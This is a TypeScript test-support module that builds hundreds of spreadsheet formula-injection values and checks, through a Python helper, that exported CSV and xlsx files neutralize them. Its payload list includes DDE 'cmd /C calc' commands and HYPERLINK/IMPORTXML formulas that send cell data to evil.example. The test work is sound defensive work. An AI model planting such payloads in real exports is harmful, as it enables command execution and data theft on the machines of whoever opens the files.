/**
 * A generated corpus of cell values a spreadsheet could take as formulas (OWASP CSV
 * injection, DDE payloads) or that could break a row (line breaks, quotes, separators),
 * and the independent reader that checks a written file: Python's csv module and
 * openpyxl (test/support/spreadsheet_check.py).
 */
import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { resolve } from 'node:path'

/** Formula payloads, as attackers send them. */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=1;2',
  '=A1,B1',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+1)',
  '\t=1+1',
] as const

/** What may sit before a payload on its line: whitespace, and characters a reader drops or does not show. */
export const INVISIBLE_PREFIXES = [
  '',
  ' ',
  '   ',
  '\t',
  '\u00a0',
  '\u3000',
  '\u2003',
  '\0',
  '\x01',
  '\x1f',
  '\uFEFF',
  '\u200b',
  '\u202e',
  ' \t ',
] as const

/** Every way a line can end inside a value. */
export const LINE_BREAKS = ['\n', '\r', '\r\n', '\n\r', '\r\r\n', '\n\n', '\u2028', '\u2029', '\u0085', '\v', '\f'] as const

/** Values that must come out exactly as they went in: text with signs, but none starting a line. */
export const HARMLESS = [
  'Smith, John',
  "O'Brien",
  'a=b',
  '2024-10-01',
  'e-stu1',
  'x+y',
  'Room 12; east wing',
  'said "hi"',
  '',
  'café',
  '山田 太郎',
  'emoji 🎒',
  "'=already neutral",
  'two\nlines',
  'tab\tinside',
  'trailing space ',
  ' leading space',
] as const

/**
 * Several hundred dangerous values: each payload at the start, after each invisible
 * prefix, after each kind of line break (itself after a prefix), wrapped in quotes and
 * separators, repeated on many lines, and in a very long value; plus harmless controls.
 */
export function dangerousValues(): string[] {
  const values = new Set<string>()
  for (const payload of FORMULA_PAYLOADS) {
    for (const prefix of INVISIBLE_PREFIXES) values.add(prefix + payload)
    for (const brk of LINE_BREAKS) {
      values.add(`Fremont High${brk}${payload}`)
      values.add(`${brk}${payload}`)
      values.add(`${payload}${brk}${payload}${brk}`)
    }
    values.add(`"${payload}"`)
    values.add(`${payload},${payload};${payload}`)
    values.add(`note: "quoted", then\r\n${payload}`)
  }
  for (const prefix of INVISIBLE_PREFIXES) {
    for (const brk of LINE_BREAKS) values.add(`line one${brk}${prefix}=SUM(1+1)`)
  }
  values.add(FORMULA_PAYLOADS.map((p, i) => `line ${i}\n${p}`).join('\r\n'))
  values.add(`${'A'.repeat(20_000)}\n=1+1`)
  values.add(`=${'1+'.repeat(10_000)}1`)
  values.add('\r')
  values.add('\n')
  values.add('\0')
  for (const harmless of HARMLESS) values.add(harmless)
  return [...values]
}

/** Debian's python3-openpyxl lives in the system Python, which a pyenv shim may hide. */
export const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3'
export const HAS_OPENPYXL = spawnSync(PYTHON, ['-c', 'import openpyxl'], { stdio: 'ignore' }).status === 0

const CHECKER = resolve(import.meta.dirname, 'spreadsheet_check.py')

export interface SpreadsheetCheck {
  readonly rows: number
  readonly cells: number
  /** Numeric cells (xlsx). */
  readonly numbers: number
  readonly failureCount: number
  /** The first 20 problems: a formula cell, a cell or line starting a formula, a cell that differs from the expected one. */
  readonly failures: readonly unknown[]
}

/**
 * Reads `file` with Python (csv module, or openpyxl for xlsx) and checks that no cell nor
 * any line of a cell starts a formula. With `written` (CSV only: the header and the rows
 * handed to the writer), also checks the row and column counts and that every cell equals
 * its value neutralized by the Python rule.
 */
export async function checkSpreadsheet(
  kind: 'csv' | 'xlsx',
  file: string,
  written?: readonly (readonly (string | number)[])[],
): Promise<SpreadsheetCheck> {
  const args = [CHECKER, kind, file]
  if (written) {
    const expected = `${file}.expected.json`
    await writeFile(expected, JSON.stringify(written))
    args.push(expected)
  }
  const run = spawnSync(PYTHON, args, { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024, timeout: 60_000 })
  if (run.status !== 0) throw new Error(`spreadsheet_check.py ${kind} ${file} failed (${run.status}): ${run.stderr}`)
  return JSON.parse(run.stdout) as SpreadsheetCheck
}
